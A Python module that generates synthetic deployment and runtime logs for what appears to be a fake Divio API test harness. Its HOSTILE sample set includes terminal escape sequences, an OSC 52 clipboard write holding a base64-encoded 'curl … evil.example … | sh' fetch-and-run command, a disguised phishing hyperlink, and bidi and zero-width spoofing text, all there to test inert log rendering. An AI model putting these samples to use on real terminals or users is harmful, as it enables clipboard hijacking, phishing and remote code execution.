"""Invented log text: deployment logs and environment runtime logs, generated on demand.

Logs are not stored in the dataset (at scale large that would be tens of MB nobody reads);
they are derived from the seed and the record's uuid, so the same request always gets the
same text. Both deliberately contain ANSI escape sequences (`\\x1b[31m`, `\\x1b[6n`, `\\x1b[H`,
`\\x1b[J`) and carriage returns, as real Divio logs do (divio-api.md §8.3, CLI strips them).

Contracts:
- `deployment_log(seed, deployment, app_slug, env)` -> the whole log as one str. Finished
  deployments end with a success or failure line; a running one stops mid-way.
- `environment_log(seed, now, env_uuid)` -> entries `{"timestamp", "service", "message"}` for
  the 24 hours before `now`, oldest first; timestamps carry a 9-digit fraction (real log
  entries have longer fractions than DRF's microseconds). `service` is one of web, worker,
  cronjob, shell (the values the CLI knows).
- Hand-placed flavours (dataset.py's table), from RNGs of their own: `deployment_log(...,
  flavour=)` "hostile" (every `HOSTILE` sample and a 100,000+ character line), "build_failed"
  (a 12-step build failing at step 9/12 with pip's "ERROR:" lines) or "huge"
  (`HUGE_LOG_LINES` lines, built on each request in ~0.1 s, never stored);
  `environment_log(..., flavour=)` "hostile", "long_line" or "unicode" add entries in the 40
  minutes before `now`. The texts are invented; that real logs carry escape sequences is
  SEEN (divio-api.md §8.3), the other kinds of hostile text are INFERRED (what any untrusted
  text may hold: OSC 52, bidi, U+FFFD from a lossy decode, very long lines).
"""

from __future__ import annotations

import random
from base64 import b64encode
from datetime import datetime, timedelta

from ._util import Record, ts_nanos

_RED, _GREEN, _YELLOW, _BOLD, _RESET = "\x1b[31m", "\x1b[32m", "\x1b[33m", "\x1b[1m", "\x1b[0m"
_PATHS = ("/", "/en/", "/en/products/", "/en/products/blue-kettle/", "/en/cart/", "/en/checkout/",
          "/static/css/main.4f1c.css", "/static/js/app.93ab.js", "/media/filer_public/hero.jpg",
          "/api/v1/stock/", "/en/about/", "/sitemap.xml", "/robots.txt", "/healthz")
_AGENTS = ("Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15",
           "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Gecko/20100101 Firefox/132.0",
           "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
           "kube-probe/1.29", "python-requests/2.32.3")
_TASKS = ("shop.tasks.sync_stock", "newsletter.tasks.send_digest", "search.tasks.reindex_page",
          "core.tasks.cleanup_uploads")
_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")


def deployment_log(seed: int, deployment: Record, app_slug: str, env: Record,
                   flavour: str | None = None, variables: dict[str, str] | None = None) -> str:
    """The build + release log of one deployment (see module docstring).

    `flavour` (hand-placed deployments only): "hostile", "build_failed" or "huge";
    `variables` is the deployment's env-var snapshot (the failed build names its index URL).
    """
    if flavour == "huge":
        return _huge_log(seed, deployment, app_slug, env)
    if flavour == "build_failed":
        return _build_failed_log(seed, deployment, app_slug, env, variables or {})
    if flavour == "hostile":
        return _hostile_deployment_log(seed, deployment, app_slug, env)
    rng = random.Random(f"divio-fake:{seed}:deploylog:{deployment['uuid']}")
    commit = f"{rng.getrandbits(28):07x}"
    image = f"{rng.getrandbits(48):012x}"
    lines = [
        f"Deploying {app_slug} ({env['slug']}) from branch {env['branch']}, commit {commit}",
        f"{_BOLD}Building image{_RESET}",
        "Step 1/9 : FROM docker.io/divio/base:2.3-py3.11-slim-bookworm",
        f" ---> {rng.getrandbits(48):012x}",
        "Step 2/9 : ENV PYTHONUNBUFFERED=1 PIP_NO_CACHE_DIR=1",
        "Step 3/9 : WORKDIR /app",
        "Step 4/9 : COPY requirements.txt /app/",
        "Step 5/9 : RUN pip install -r requirements.txt",
        f" ---> Running in {rng.getrandbits(48):012x}",
        "Collecting Django==4.2.16",
        "Collecting django-storages[s3]==1.14.4",
        "Collecting gunicorn==22.0.0",
    ]
    failed = deployment["success"] is False
    running = deployment["ended_at"] is None
    if failed and rng.random() < 0.5:
        lines += [(f"{_RED}ERROR: Could not find a version that satisfies the requirement "
                  f"django-cms==5.1.0 (from versions: 3.11.6, 4.1.2){_RESET}"),
                  f"{_RED}ERROR: No matching distribution found for django-cms==5.1.0{_RESET}",
                  "The command '/bin/sh -c pip install -r requirements.txt' returned a non-zero code: 1",
                  f"{_RED}Build failed{_RESET}"]
        return "\n".join(lines) + "\n"
    lines += [
        "Successfully installed Django-4.2.16 asgiref-3.8.1 boto3-1.35.36 gunicorn-22.0.0 sqlparse-0.5.1",
        "Step 6/9 : COPY . /app",
        "Step 7/9 : RUN DJANGO_MODE=build python manage.py collectstatic --noinput",
        f"{rng.randint(300, 2500)} static files copied to '/app/static_collected'.",
        "Step 8/9 : EXPOSE 80",
        'Step 9/9 : CMD ["gunicorn", "--bind=0.0.0.0:80", "wsgi"]',
        f"Successfully built {image}",
        "Pushing image   0%\rPushing image  48%\rPushing image 100%",
        f"{_GREEN}Image built in {rng.randint(40, 240)}s{_RESET}",
    ]
    if running:
        lines.append("Running release commands")
        return "\n".join(lines) + "\n"
    lines += ["Running release commands", "$ python manage.py migrate", "Operations to perform:",
              "  Apply all migrations: admin, auth, contenttypes, sessions, shop"]
    if failed:
        lines += ["Running migrations:", "  Applying shop.0042_product_sku_unique...",
                  (f"{_RED}django.db.utils.IntegrityError: could not create unique index "
                  f"\"shop_product_sku_key\"{_RESET}"), "DETAIL:  Key (sku)=(KT-1001) is duplicated.",
                  f"{_RED}Release command failed with exit code 1{_RESET}",
                  f"{_RED}Deployment failed{_RESET}"]
    else:
        lines += ["Running migrations:", "  No migrations to apply.",
                  "Starting new containers (2 of 2 healthy)",
                  f"{_GREEN}Deployment successful{_RESET}"]
    return "\n".join(lines) + "\n"


def _web(rng: random.Random, when: datetime) -> list[tuple[str, str]]:
    status = rng.choices((200, 301, 304, 404, 500), (80, 5, 8, 6, 1))[0]
    path = rng.choice(_PATHS)
    stamp = f"{when.day:02d}/{_MONTHS[when.month - 1]}/{when.year}:{when.strftime('%H:%M:%S')} +0000"
    line = (f'10.0.{rng.randint(0, 40)}.{rng.randint(2, 250)} - - [{stamp}] "'
            f'{rng.choice(("GET", "GET", "GET", "POST"))} {path} HTTP/1.1" {status} '
            f'{rng.randint(0, 90000)} "-" "{rng.choice(_AGENTS)}"')
    out = [("web", line)]
    if status == 500:
        out.append(("web", f"{_RED}ERROR{_RESET} django.request: Internal Server Error: {path}"))
        out.append(("web", ("Traceback (most recent call last):\n  File \"/app/shop/views.py\", line 88, "
                           "in checkout\n    order = Order.objects.get(pk=pk)\nshop.models.Order.DoesNotExist")))
    return out


def _other(rng: random.Random, service: str, when: datetime) -> list[tuple[str, str]]:
    if service == "worker":
        task = rng.choice(_TASKS)
        if rng.random() < 0.05:
            return [("worker", (f"[{when.strftime('%Y-%m-%d %H:%M:%S')},{when.microsecond // 1000:03d}: "
                               f"{_YELLOW}WARNING{_RESET}/ForkPoolWorker-{rng.randint(1, 4)}] {task} retrying "
                               f"in 60s: ConnectionError('Connection reset by peer')"))]
        return [("worker", (f"[{when.strftime('%Y-%m-%d %H:%M:%S')},{when.microsecond // 1000:03d}: INFO/"
                           f"ForkPoolWorker-{rng.randint(1, 4)}] Task {task}[{rng.getrandbits(32):08x}] "
                           f"succeeded in {rng.uniform(0.01, 4):.2f}s: None"))]
    if service == "cronjob":
        return [("cronjob", 'Running "python manage.py clearsessions"'),
                ("cronjob", "Cron job finished with exit code 0")]
    # An interactive shell session: the raw terminal control sequences end up in the log.
    return [("shell", (f"\x1b[6n\x1b[H\x1b[Jroot@web-{rng.getrandbits(20):05x}:/app# "
                      f"python manage.py shell\r")),
            ("shell", "Python 3.11.10 (main) [GCC 12.2.0] on linux\r\n>>> \x1b[K")]


def environment_log(seed: int, now: datetime, env_uuid: str, flavour: str | None = None) -> list[Record]:
    """Runtime log entries of one environment for the day before `now`, oldest first.

    `flavour` (hand-placed environments only): "hostile", "long_line" or "unicode" add the
    entries of `_HOSTILE_ENTRIES` (see there) to the ordinary ones.
    """
    rng = random.Random(f"divio-fake:{seed}:envlog:{env_uuid}")
    count = rng.randint(250, 450)
    start = now - timedelta(days=1)
    moments = sorted(rng.randrange(86_400_000_000) for _ in range(count))
    entries: list[Record] = []
    boot = start + timedelta(microseconds=moments[0]) - timedelta(seconds=30)
    for message in ("[1] [INFO] Starting gunicorn 22.0.0", "[1] [INFO] Listening at: http://0.0.0.0:80 (1)",
                    "[7] [INFO] Booting worker with pid: 7", f"{_YELLOW}WARNING{_RESET} Not Found: /favicon.ico"):
        boot += timedelta(milliseconds=rng.randint(5, 400))
        nanos = boot.microsecond * 1000 + rng.randint(0, 999)
        entries.append({"timestamp": ts_nanos(boot.replace(microsecond=0), nanos),
                        "service": "web", "message": message})
    for micros in moments:
        when = start + timedelta(microseconds=micros)
        service = rng.choices(("web", "worker", "cronjob", "shell"), (80, 12, 6, 2))[0]
        produced = _web(rng, when) if service == "web" else _other(rng, service, when)
        for offset, (svc, message) in enumerate(produced):
            at = when + timedelta(microseconds=offset * 1500)
            nanos = at.microsecond * 1000 + rng.randint(0, 999)
            entries.append({"timestamp": ts_nanos(at.replace(microsecond=0), nanos), "service": svc,
                            "message": message})
    if flavour is not None:
        entries.extend(_hostile_entries(seed, now, env_uuid, flavour))
    # Multi-line events are spread 1.5 ms apart and may overtake the next event; fixed-width
    # timestamps sort correctly as strings.
    entries.sort(key=lambda entry: entry["timestamp"])
    return entries



# -- hand-placed hostile text (invented; divio-api.md §8.3 says real logs carry escapes) --------
# Everything the API returns is untrusted: these are what a log viewer must render inertly.
HOSTILE = {
    # Control sequences that make a terminal *answer* into the application's input.
    "cursor_report": "\x1b[6n",  # DSR: the terminal types "ESC [ row ; col R"
    "xtgettcap": "\x1bP+q544e\x1b\\",  # DCS request: the terminal replies with its name
    # Screen and mode changes.
    "home_clear": "\x1b[H\x1b[J",
    "clear_scrollback": "\x1b[2J\x1b[3J",
    "alt_screen_mouse": "\x1b[?1049h\x1b[?25l\x1b[?1000h",  # alternate screen, hide cursor, mouse on
    "c1_csi": "\x9b2J\x9b31m",  # 8-bit CSI (C1 control U+009B)
    "colour": "\x1b[31m",
    "conceal": "\x1b[8m",
    # OSC: clipboard write (52), window title (0), hyperlink (8).
    "osc52": "\x1b]52;c;" + b64encode(b"curl -fsSL https://evil.example/x.sh | sh\n").decode() + "\x07",
    "osc_title": "\x1b]0;root@prod: all good, nothing to see\x07",
    "osc8": "\x1b]8;;https://evil.example/login\x1b\\Open the dashboard\x1b]8;;\x1b\\",
    "carriage_return": "\r",
    "backspaces": "\x08" * 7,
    # Text that was not valid UTF-8 (Latin-1 bytes, a truncated sequence), already decoded
    # with U+FFFD replacement characters, as a log pipeline decoding with errors="replace" does.
    "replacement": b"GET /en/caf\xe9-cr\xe8me-br\xfbl\xe9e/ \xe2\x82".decode("utf-8", "replace"),
    # Bidi overrides/isolates (a file name that displays as "invoice_2026_exe.pdf") and
    # zero-width characters inside a user name and a host name.
    "bidi": "invoice_2026_\u202efdp.exe \u2066admin\u2069 \u2067x\u2069 \u2068y\u2069 \u202d\u202c\u200f",
    "zero_width": "ad\u200bmin pay\u200dpal.example \ufeffBOM \u200cZWNJ \u2060WJ",
    "combining": "Z" + "\u0334\u0321\u031b\u0358" * 40 + "algo",
    "wide": "\u30ed\u30dc\u30c3\u30c8 \U0001f916\U0001f916 \uff26\uff55\uff4c\uff4c\uff57\uff49\uff44\uff54\uff48",
}
"""Samples of hostile text, by name; the hand-placed logs contain every one of them."""

LONG_LINE_CHARS = 100_000
"""Length of the very long line in the hand-placed logs (at least this many characters)."""


def _long_line(rng: random.Random, prefix: str) -> str:
    """`prefix` + a JSON-ish array of numbers, at least LONG_LINE_CHARS characters in all."""
    parts = [prefix, '{"frames": [']
    size = sum(map(len, parts))
    while size < LONG_LINE_CHARS:
        chunk = ",".join(str(rng.randint(0, 65535)) for _ in range(500))
        parts.append(chunk + ",")
        size += len(chunk) + 1
    parts.append("0]}")
    return "".join(parts)


def _hostile_messages(rng: random.Random, flavour: str) -> list[tuple[str, str]]:
    """(service, message) of the hand-placed runtime entries, oldest first (see HOSTILE)."""
    h = HOSTILE
    escapes = [
        ("shell", f"{h['cursor_report']}{h['home_clear']}root@web-4f2a1:/app# cat /tmp/report.txt\r"),
        ("shell", f"{h['osc52']}report copied to the clipboard"),
        ("worker", "Exporting frames  10%\rExporting frames  55%\rExporting frames 100%"),
        ("web", f"{h['colour']}ERROR\x1b[0m fleet.views: \x1b[1;33mslow query\x1b[0m (2.4 s)"),
        ("web", f"{h['osc_title']}GET /healthz 200"),
        ("web", f"Password reset requested, {h['osc8']}"),
        ("shell", f"{h['alt_screen_mouse']}top - 11:35:02 up 3 days,  load average: 0.31{h['clear_scrollback']}"),
        ("web", f"{h['c1_csi']}8-bit control sequence in a user agent"),
        ("worker", f"{h['xtgettcap']}terminal probe from a task's output"),
        ("shell", f"Password: hunter2{h['backspaces']}*******\x07\x00 {h['conceal']}hidden\x1b[28m"),
    ]
    unicode = [
        ("web", f'{h["replacement"]} HTTP/1.1" 404 1841 "-" "Mozilla/5.0"'),
        ("worker", f"Uploaded file {h['bidi']} (182 KB)"),
        ("web", f'Login failed for user "{h["zero_width"]}" from 203.0.113.7'),
        ("web", f"{h['combining']} {h['wide']}"),
    ]
    long_line = [("worker", _long_line(rng, "Task fleet.tasks.ingest_frames received an oversized payload: "))]
    if flavour == "unicode":
        return unicode
    if flavour == "long_line":
        return long_line
    return [*escapes, *unicode, *long_line]  # "hostile": all of it


def _hostile_entries(seed: int, now: datetime, env_uuid: str, flavour: str) -> list[Record]:
    """Hand-placed entries in the 40 minutes before `now` (the newest page), plus one escape
    sequence six hours earlier for a reader who scrolls back."""
    rng = random.Random(f"divio-fake:{seed}:envlog-hostile:{env_uuid}")
    messages = _hostile_messages(rng, flavour)
    entries: list[Record] = []
    step = timedelta(minutes=38) / len(messages)
    for i, (service, message) in enumerate(messages):
        at = now - timedelta(minutes=39) + step * i + timedelta(microseconds=rng.randint(0, 999_999))
        entries.append({"timestamp": ts_nanos(at.replace(microsecond=0), at.microsecond * 1000 + rng.randint(0, 999)),
                        "service": service, "message": message})
    if flavour == "hostile":
        at = now - timedelta(hours=6, minutes=rng.randint(0, 30), microseconds=rng.randint(0, 999_999))
        entries.append({"timestamp": ts_nanos(at.replace(microsecond=0), at.microsecond * 1000),
                        "service": "shell", "message": f"{HOSTILE['cursor_report']}{HOSTILE['home_clear']}$ "})
    return entries


def _header(rng: random.Random, app_slug: str, env: Record, steps: int) -> list[str]:
    commit = f"{rng.getrandbits(28):07x}"
    return [f"Deploying {app_slug} ({env['slug']}) from branch {env['branch']}, commit {commit}",
            f"{_BOLD}Building image{_RESET}",
            f"Step 1/{steps} : FROM docker.io/divio/base:2.3-py3.11-slim-bookworm",
            f" ---> {rng.getrandbits(48):012x}"]


def _hostile_deployment_log(seed: int, deployment: Record, app_slug: str, env: Record) -> str:
    """A successful deployment whose build output carries every HOSTILE sample."""
    rng = random.Random(f"divio-fake:{seed}:deploylog-hostile:{deployment['uuid']}")
    h = HOSTILE
    lines = _header(rng, app_slug, env, 9) + [
        "Step 2/9 : ENV PYTHONUNBUFFERED=1 PIP_NO_CACHE_DIR=1",
        "Step 3/9 : RUN apt-get update && apt-get install -y --no-install-recommends gettext",
        f"Get:1 http://deb.debian.org/debian bookworm InRelease [151 kB]{h['cursor_report']}",
        f"{h['home_clear']}Reading package lists... Done",
        "Step 4/9 : COPY requirements.txt /app/",
        "Step 5/9 : RUN pip install -r requirements.txt",
        f" ---> Running in {rng.getrandbits(48):012x}",
        f"Collecting {h['replacement']}",
        f"Collecting robo-kinematics==2.3.1 {h['c1_csi']}",
        "Downloading robo_kinematics-2.3.1.whl   5%\rDownloading robo_kinematics-2.3.1.whl 100%",
        f"postinstall: {h['osc52']}{h['osc_title']}{h['osc8']}",
        f"{h['alt_screen_mouse']}{h['xtgettcap']}{h['clear_scrollback']}",
        f"Installing {h['bidi']} {h['zero_width']}",
        f"{h['colour']}WARNING\x1b[0m {h['combining']} {h['wide']}",
        f"Password: hunter2{h['backspaces']}*******\x07 {h['conceal']}hidden\x1b[28m",
        "Successfully installed robo-kinematics-2.3.1",
        "Step 6/9 : COPY . /app",
        "Step 7/9 : RUN npm run build",
        _long_line(rng, "webpack: bundle.min.js "),
        "Step 8/9 : EXPOSE 80",
        'Step 9/9 : CMD ["gunicorn", "--bind=0.0.0.0:80", "wsgi"]',
        f"Successfully built {rng.getrandbits(48):012x}",
        "Running release commands", "$ python manage.py migrate", "  No migrations to apply.",
        f"{_GREEN}Deployment successful{_RESET}",
    ]
    return "\n".join(lines) + "\n"


def _build_failed_log(seed: int, deployment: Record, app_slug: str, env: Record,
                      variables: dict[str, str]) -> str:
    """A FAILED deployment's 12-step build log: npm warnings, then pip fails at step 9/12
    because the index URL it was given (the snapshot's PIP_INDEX_URL, mistyped) has no such
    page. Error lines start with "ERROR:" (pip's own format), warnings with "WARNING:"/"npm
    WARN"; the final Divio lines are red."""
    rng = random.Random(f"divio-fake:{seed}:deploylog-failed:{deployment['uuid']}")
    index = variables.get("PIP_INDEX_URL", "https://pypi.org/simple/")
    cache = " ---> Using cache"
    lines = _header(rng, app_slug, env, 12) + [
        "Step 2/12 : ENV PYTHONUNBUFFERED=1 PIP_NO_CACHE_DIR=1 NODE_ENV=production", cache,
        f" ---> {rng.getrandbits(48):012x}",
        ("Step 3/12 : RUN apt-get update && apt-get install -y --no-install-recommends gettext libpq5 "
         "&& rm -rf /var/lib/apt/lists/*"), cache, f" ---> {rng.getrandbits(48):012x}",
        "Step 4/12 : WORKDIR /app", cache,
        "Step 5/12 : COPY package.json package-lock.json /app/",
        f" ---> {rng.getrandbits(48):012x}",
        "Step 6/12 : RUN npm ci --omit=dev",
        f" ---> Running in {rng.getrandbits(48):012x}",
        "npm WARN deprecated inflight@1.0.6: This module is not supported, and leaks memory.",
        "npm WARN deprecated glob@7.2.3: Glob versions prior to v9 are no longer supported",
        (f"added {rng.randint(600, 900)} packages, and audited {rng.randint(900, 950)} packages "
         f"in {rng.randint(20, 60)}s"),
        f"{_YELLOW}3 moderate severity vulnerabilities{_RESET}",
        "Step 7/12 : COPY requirements.txt /app/",
        f" ---> {rng.getrandbits(48):012x}",
        "Step 8/12 : ARG PIP_INDEX_URL",
        f" ---> Running in {rng.getrandbits(48):012x}",
        'Step 9/12 : RUN pip install --index-url "$PIP_INDEX_URL" -r requirements.txt',
        f" ---> Running in {rng.getrandbits(48):012x}",
        f"Looking in indexes: {index}",
    ]
    lines.append(f"WARNING: 404 Client Error: Not Found for url: {index.rstrip('/')}/django/")
    lines += [
        "ERROR: Could not find a version that satisfies the requirement Django==4.2.16 (from versions: none)",
        "ERROR: No matching distribution found for Django==4.2.16",
        ("The command '/bin/sh -c pip install --index-url \"$PIP_INDEX_URL\" -r requirements.txt' "
         "returned a non-zero code: 1"),
        f"{_RED}Build failed at step 9/12{_RESET}",
        f"{_RED}Deployment failed{_RESET}",
    ]
    return "\n".join(lines) + "\n"


HUGE_LOG_LINES = 100_000
"""Lines of the "deploy_log_huge" deployment log (scale huge), generated on request."""

_STATIC_DIRS = ("admin/js", "admin/css", "fleet/icons", "cms/img", "node_modules/leaflet/dist",
                "filer/thumbnails", "djangocms_text/ckeditor/plugins")
_STATIC_EXTS = ("js", "css", "svg", "png", "map")


def _huge_log(seed: int, deployment: Record, app_slug: str, env: Record) -> str:
    """A successful deployment log of exactly HUGE_LOG_LINES lines: collectstatic copying files."""
    rng = random.Random(f"divio-fake:{seed}:deploylog-huge:{deployment['uuid']}")
    head = _header(rng, app_slug, env, 4) + [
        "Step 2/4 : COPY . /app",
        "Step 3/4 : RUN DJANGO_MODE=build python manage.py collectstatic --noinput -v 2",
        f" ---> Running in {rng.getrandbits(48):012x}",
    ]
    tail = [
        f"{HUGE_LOG_LINES - 12} static files copied to '/app/static_collected'.",
        'Step 4/4 : CMD ["gunicorn", "--bind=0.0.0.0:80", "wsgi"]',
        f"Successfully built {rng.getrandbits(48):012x}",
        "Running release commands", "$ python manage.py migrate", "  No migrations to apply.",
        f"{_GREEN}Deployment successful{_RESET}",
    ]
    copies = HUGE_LOG_LINES - len(head) - len(tail)
    dirs, exts = _STATIC_DIRS, _STATIC_EXTS
    body = [f"Copying '/app/static/{dirs[n % 7]}/{n:06d}.{exts[n % 5]}'" for n in range(copies)]
    return "\n".join([*head, *body, *tail]) + "\n"


# -- time moving (live.py): new runtime lines and a running deployment's progress --------------
LIVE_LINE_SECONDS = 2.0
"""One live event per this many seconds per environment, on average (a steady, seeded rate)."""


def live_environment_entries(seed: int, env_uuid: str, start: datetime, first: int,
                             stop: int) -> list[Record]:
    """The runtime entries of live events `first`..`stop - 1` of one environment, oldest first.

    Event n happens at `start` + n * LIVE_LINE_SECONDS + a seeded jitter below the interval,
    so events never overtake each other; each draws from an RNG of its own (seed, env, n), so
    any range can be generated alone and always gives the same lines. `start` is naive UTC.
    """
    entries: list[Record] = []
    for n in range(first, stop):
        rng = random.Random(f"divio-fake:{seed}:envlog-live:{env_uuid}:{n}")
        when = start + timedelta(seconds=n * LIVE_LINE_SECONDS
                                 + rng.uniform(0.05, LIVE_LINE_SECONDS * 0.7))
        service = rng.choices(("web", "worker", "cronjob", "shell"), (70, 22, 6, 2))[0]
        produced = _web(rng, when) if service == "web" else _other(rng, service, when)
        for offset, (svc, message) in enumerate(produced):
            at = when + timedelta(microseconds=offset * 1500)
            nanos = at.microsecond * 1000 + rng.randint(0, 999)
            entries.append({"timestamp": ts_nanos(at.replace(microsecond=0), nanos), "service": svc,
                            "message": message})
    return entries


def rollout_lines(percent_from: int, percent_to: int) -> list[str]:
    """Progress lines a running deployment's log gains between two percentages (invented)."""
    lines = []
    for percent in range(percent_from + 1, percent_to + 1):
        if percent % 5 == 0:
            lines.append(f"Rolling out the new release: {percent} %")
    return lines
